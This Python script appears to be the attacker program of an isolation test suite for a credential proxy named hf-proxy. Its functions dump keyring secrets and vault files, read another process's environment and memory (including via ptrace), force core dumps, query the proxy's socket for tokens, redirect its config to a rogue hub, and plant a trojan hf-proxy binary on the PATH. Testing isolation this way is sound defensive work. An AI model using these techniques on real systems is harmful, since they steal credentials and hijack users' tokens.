"""The attacks of the isolation table, as a program that nobody warned of would make them: loot goes to stdout.

Run by the attacker, with Python's own library and a Secret Service client; it knows nothing of hf-proxy but what is
public: where its things are, what its items are called, and what its socket understands.
"""

import ctypes
import json
import os
import resource
import signal
import socket
import stat
import sys
from pathlib import Path

PTRACE_ATTACH, PTRACE_DETACH = 16, 17


def loot(data: bytes) -> None:
    sys.stdout.buffer.write(data + b"\n")


def keyring(*places: str) -> None:
    """Every item of every collection that is open, and every file below these places."""
    import secretstorage

    try:
        bus = secretstorage.dbus_init()
        for collection in secretstorage.get_all_collections(bus):
            for item in collection.get_all_items():
                loot(item.get_label().encode() + b": " + item.get_secret())
    except Exception as error:  # there is none
        print(repr(error), file=sys.stderr)
    for place in places:
        for path in Path(place).rglob("vault*"):
            attempt(lambda: loot(path.read_bytes()))


def environ(pid: str) -> None:
    attempt(lambda: loot(Path(f"/proc/{pid}/environ").read_bytes()))


def mem(pid: str) -> None:
    """All its memory that holds something, by the file and by process_vm_readv(2)."""
    attempt(lambda: memory(pid))
    attempt(lambda: vm_read(int(pid)))


def memory(pid: str) -> None:
    with open(f"/proc/{pid}/mem", "rb", buffering=0) as file:
        for start, end in regions(pid):
            file.seek(start)
            attempt(lambda: loot(file.read(end - start)))


def regions(pid: str) -> list[tuple[int, int]]:
    rows = [line.split() for line in Path(f"/proc/{pid}/maps").read_text().splitlines()]
    writable = [row[0].split("-") for row in rows if row[1].startswith("rw")]
    return [(int(start, 16), int(end, 16)) for start, end in writable]


def vm_read(pid: int) -> None:
    """Where the memory is, is not to be seen of an undumpable process; whoever is let in is told that nothing is at 1."""
    libc = ctypes.CDLL(None, use_errno=True)
    here = (ctypes.c_size_t * 2)(ctypes.addressof(ctypes.create_string_buffer(8)), 8)
    if libc.process_vm_readv(pid, here, 1, (ctypes.c_size_t * 2)(1, 8), 1, 0) < 0 and ctypes.get_errno() == 14:
        loot(b"let in")


def ptrace(pid: str) -> None:
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.argtypes = [ctypes.c_long] * 4
    if libc.ptrace(PTRACE_ATTACH, int(pid), 0, 0) != 0:
        print(os.strerror(ctypes.get_errno()), file=sys.stderr)
        return
    os.waitpid(int(pid), 0)
    attempt(lambda: memory(pid))
    libc.ptrace(PTRACE_DETACH, int(pid), 0, 0)


def core(pid: str) -> None:
    """Crash it, after its limits were widened as far as they go."""
    attempt(lambda: resource.prlimit(int(pid), resource.RLIMIT_CORE, (resource.RLIM_INFINITY,) * 2))
    attempt(lambda: crash(int(pid)))


def crash(pid: int) -> None:
    os.kill(pid, signal.SIGSEGV)
    loot(b"crashed")


def ask(path: str) -> None:
    """Every word that the socket understands and that gives something."""
    words = "status accounts doctor grants audit anchor lock unlock vault"
    mint = {"do": "mint", "scopes": ["read"], "bind": "none"}
    for request in (mint, *({"do": word} for word in words.split() if word != "lock"), {"do": "vouch", "macs": []}):
        attempt(lambda: loot(answer(path, request)))


def answer(path: str, request: dict[str, object]) -> bytes:
    with socket.socket(socket.AF_UNIX) as connection:
        connection.settimeout(30)
        connection.connect(path)
        connection.sendall(json.dumps(request).encode() + b"\n")
        return connection.makefile("rb").read()


def request(endpoint: str, credential: str) -> None:
    """Whether a credential is one."""
    host, _, port = endpoint.removeprefix("http://").partition(":")
    head = f"GET /api/models/me/secret-model HTTP/1.1\r\nHost: {host}:{port}\r\nConnection: close\r\n"
    with socket.create_connection((host, int(port)), timeout=30) as connection:
        connection.sendall(f"{head}Authorization: Bearer {credential}\r\n\r\n".encode())
        loot(connection.makefile("rb").read())


def config(directory: str, hub: str) -> None:
    """Another Hub, and every token may go there that will."""
    attempt(lambda: rewrite(Path(directory) / "config.toml", hub))


def rewrite(file: Path, hub: str) -> None:
    lines = file.read_text().splitlines(keepends=True)
    kept = [line for line in lines if not line.startswith(("hub =", "ca_file ="))]
    file.write_text("".join(f'{line}hub = "{hub}"\n' if line.startswith("[upstream]") else line for line in kept))


def path(directory: str, keeps: str) -> None:
    """A program of our own by the name of hf-proxy, which writes down what it is told, and looks around by itself."""
    attempt(lambda: plant(Path(directory) / "hf-proxy", keeps))


def plant(program: Path, keeps: str) -> None:
    program.parent.mkdir(parents=True, exist_ok=True)
    program.write_text(
        f"#!/bin/sh\n'{sys.executable}' -I '{__file__}' keyring \"$HFPROXY_STATE_DIR\" >>'{keeps}'\ncat >>'{keeps}'\n"
    )
    program.chmod(program.stat().st_mode | stat.S_IXUSR)


def pick_up(program: str) -> None:
    attempt(Path(program).unlink)


def unseal(backend: str, state: str, passphrase: str) -> None:
    """With the passphrase in hand, what hf-proxy does is done by anybody."""
    from hfproxy.errors import HFProxyError
    from hfproxy.secret import Secret
    from hfproxy.vault import open_vault

    vault = open_vault(backend, Path(state))
    try:
        vault.unlock(Secret(passphrase))
        document = vault.read()
        loot(document.reveal().encode() if document else b"")
    except HFProxyError as error:
        print(error, file=sys.stderr)


def attempt(way) -> None:
    try:
        way()
    except (OSError, ValueError) as error:
        print(repr(error), file=sys.stderr)


if __name__ == "__main__":
    globals()[sys.argv[1]](*sys.argv[2:])
